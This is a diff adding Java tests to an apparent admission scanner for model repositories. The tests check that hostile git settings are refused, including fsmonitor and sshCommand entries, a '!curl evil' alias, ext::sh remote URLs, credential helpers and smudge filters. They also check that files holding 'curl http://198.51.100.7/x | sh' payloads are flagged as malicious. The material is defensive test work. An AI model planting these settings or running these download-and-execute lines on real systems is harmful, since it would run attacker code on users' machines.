@@ -4,6 +4,7 @@ import static java.util.Objects.requireNonNull;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
+import io.sallyport.artifacts.Digests;
 import io.sallyport.artifacts.PickleBytes;
 import io.sallyport.artifacts.ScanLimits;
 import io.sallyport.artifacts.signing.KeyFile;
@@ -180,6 +181,107 @@ final class AdmissionTest {
                 + " .git/HEAD.");
     policy("ignore: code");
     assertThatThrownBy(this::decide).isInstanceOf(PolicyException.class);
+  }
+
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "config:[core]\n\tfsmonitor = ./run\n",
+        "config:[core] sshCommand=x\n",
+        "config:[alias]\n st = !curl evil\n",
+        "config:[filter \"a\"]\n smudge = sh -c \\\n x\n",
+        "config:[include]\n path = ../evil\n",
+        "config:[core]\n hooksPath = weights\n",
+        "config:[remote \"o\"]\n url = ext::sh -c x\n",
+        "config:[credential]\n helper = !x\n",
+        "hooks/post-checkout:echo without a first line\n",
+        "info/attributes:* filter=a\n"
+      })
+  void commandOfGit_isRefused(String settings) throws Exception {
+    int colon = settings.indexOf(':');
+    Path file = model.resolve(".git").resolve(settings.substring(0, colon));
+    Files.createDirectories(requireNonNull(file.getParent()));
+    Files.writeString(file, settings.substring(colon + 1));
+
+    AdmissionReport report = decide();
+
+    assertThat(report.admitted()).isFalse();
+    assertThat(String.join(" ", report.reasons())).contains(settings.substring(0, colon));
+  }
+
+  @Test
+  void attributesWithAFilterOfTheAuthors_areRefused() throws Exception {
+    Files.writeString(model.resolve(".gitattributes"), "*.bin filter=evil diff=lfs -text\n");
+
+    assertThat(decide().admitted()).isFalse();
+  }
+
+  @Test
+  void freshCloneWithLargeFiles_isAdmitted() throws Exception {
+    Path git = Files.createDirectories(model.resolve(".git/hooks")).resolve("..");
+    Files.writeString(
+        git.resolve("config"),
+        """
+        [core]
+        \trepositoryformatversion = 0
+        \tfilemode = true
+        \tfsmonitor = true
+        [remote "origin"]
+        \turl = https://hub.example/a/b
+        \tfetch = +refs/heads/*:refs/remotes/origin/*
+        [branch "main"]
+        \tremote = origin
+        [filter "lfs"]
+        \tprocess = git-lfs filter-process
+        \tclean = git-lfs clean -- %f
+        \tsmudge = git-lfs smudge -- %f
+        [alias]
+        \tst = status
+        """);
+    Files.writeString(git.resolve("hooks/pre-push.sample"), "#!/bin/sh\nexec git diff-index\n");
+    Files.writeString(model.resolve(".gitattributes"), "*.bin filter=lfs diff=lfs merge=lfs -text\n");
+
+    assertThat(decide().reasons()).isEmpty();
+  }
+
+  @ParameterizedTest
+  @ValueSource(strings = {"payload", "bin/start"})
+  void codeWithoutAnEnding_isJudgedAsCode(String name) throws Exception {
+    Path file = model.resolve(name);
+    Files.createDirectories(requireNonNull(file.getParent()));
+    Files.writeString(file, "import os\nos.system('curl http://198.51.100.7/x | sh')\n");
+    sign();
+
+    assertThat(String.join(" ", decide().reasons())).contains(name + " is malicious (code/");
+    Files.writeString(file, "set -e\ncurl http://198.51.100.7/x | sh\n");
+    sign();
+    assertThat(String.join(" ", decide().reasons())).contains(name + " is malicious (code/");
+  }
+
+  @Test
+  void figureOfAnotherMeasureOrModel_isRefused() throws Exception {
+    String weights = Digests.sha256Hex(Files.readAllBytes(model.resolve("config.json")));
+    for (String[] record :
+        new String[][] {
+          {"accuracy", "model sha256:" + weights, ""},
+          {"accuracy", "model sha256:" + "0".repeat(64), "is of 'model sha256:000"},
+          {"accuracy", "holdout", "is of 'holdout'"},
+          {"latency", "model sha256:" + weights, "measures 'latency', not 'accuracy'"}
+        }) {
+      Files.writeString(
+          model.resolve("card.yaml"), "name: S\nmeasurements: [{name: accuracy, evidence: e-1}]\n");
+      sign();
+      Instant now = Instant.now();
+      Evidence evidence =
+          new Evidence(
+              "e-1", record[0], record[1], "share", 0.9, null, now, now, now.plusSeconds(60), "t", 1);
+      AdmissionReport report =
+          new Admission(
+                  AdmissionPolicy.read(folder.resolve("policy.yaml")), ScanLimits.standard(), 2)
+              .decide(model, List.of(evidence));
+      assertThat(String.join(" ", report.reasons())).contains(record[2]);
+      assertThat(report.admitted()).isEqualTo(record[2].isEmpty());
+    }
   }
 
   @Test
